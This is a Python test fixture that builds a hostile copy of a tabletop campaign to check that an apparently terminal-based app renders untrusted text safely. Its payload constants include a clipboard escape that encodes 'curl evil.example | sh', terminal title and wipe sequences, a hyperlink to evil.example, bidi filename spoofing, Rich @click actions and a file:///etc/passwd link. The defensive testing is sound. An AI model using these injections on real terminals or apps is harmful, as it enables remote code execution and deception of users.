"""A hostile campaign: the bundled Condensed campaign with every text a GM or an import can
write carrying Rich markup, `@click` actions, links, terminal control sequences, bidirectional
overrides and C1 controls, and one aspect of a megabyte on one line. The tests walk it through
every screen, the players' view and every export, and look for any of it being obeyed."""

from __future__ import annotations

import shutil
from pathlib import Path

import tomlkit

CAMPAIGNS = Path(__file__).resolve().parents[1] / "campaigns"

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x1b\\"  # curl evil.example | sh
OSC_TITLE = "\x1b]0;pwned\x07"
WIPE = "\x1b[2J"
OSC8 = "\x1b]8;;https://evil.example/\x1b\\here\x1b]8;;\x1b\\"
BIDI = "\u202egpj.exe\u202c \u2066x\u2069"
C1 = "\x9b31m\x85\x7f"
MARKUP = (
    "[@click=app.quit]Q[/] [@click=app.screenshot('pwned.svg','/tmp')]S[/] "
    "[link=file:///etc/passwd]L[/link] [b]B[/b] [REDACTED]"
)
PAYLOAD = f" {MARKUP} {OSC52}{OSC_TITLE}{WIPE}{OSC8} {BIDI} {C1}"

# A megabyte on one line, as a paste gone wrong or a file built to stall the screens.
HUGE_ASPECT = "Storm " * 174_763  # 1,048,578 characters

# The keys whose text is the GM's own words (ids, skill names and references stay valid).
TEXT_KEYS = frozenset(
    {
        "name", "description", "high_concept", "trouble", "relationship", "notes", "player",
        "title", "summary", "text", "outcome", "trigger", "aspects", "setting_aspects",
        "scenario_aspects", "aspect",
    }
)  # fmt: skip
# Names of places others point at: left alone so the campaign still loads whole.
KEPT = frozenset({("zones", "name")})


# The hostile files of each campaign made so far in this process, by path in the folder:
# made once (the megabyte alone takes tomlkit a third of a second to write), copied after.
_MADE: dict[str, dict[Path, bytes]] = {}


def hostile_campaign(tmp_path: Path, folder: str = "ashen-coast") -> Path:
    """A private copy of a bundled campaign with every text field made hostile."""
    target = tmp_path / f"hostile-{folder}"
    shutil.copytree(CAMPAIGNS / folder, target)
    made = _MADE.get(folder)
    if made is None:
        _make_hostile(target)
        _MADE[folder] = {p.relative_to(target): p.read_bytes() for p in target.rglob("*.toml")}
    else:
        for path, data in made.items():
            (target / path).write_bytes(data)
    return target


def _make_hostile(target: Path) -> None:
    for path in sorted(target.rglob("*.toml")):
        document = tomlkit.parse(path.read_text(encoding="utf-8"))
        _poison(document, ())
        path.write_text(tomlkit.dumps(document), encoding="utf-8")
    story = tomlkit.parse((target / "campaign.toml").read_text(encoding="utf-8"))
    scene = target / "scenes" / f"{story['current']['scene']}.toml"
    document = tomlkit.parse(scene.read_text(encoding="utf-8"))
    document.setdefault("aspects", tomlkit.array()).append(HUGE_ASPECT)
    scene.write_text(tomlkit.dumps(document), encoding="utf-8")


def _poison(node, path: tuple[str, ...]) -> None:
    if isinstance(node, dict):
        for key in list(node):
            value = node[key]
            if isinstance(value, str) and key in TEXT_KEYS and (*path[-1:], key) not in KEPT:
                node[key] = value + PAYLOAD
            elif key in TEXT_KEYS and isinstance(value, list):
                for index, item in enumerate(value):
                    if isinstance(item, str):
                        value[index] = item + PAYLOAD
                    else:
                        _poison(item, (*path, key))
            else:
                _poison(value, (*path, key))
    elif isinstance(node, list):
        for item in node:
            _poison(item, path)
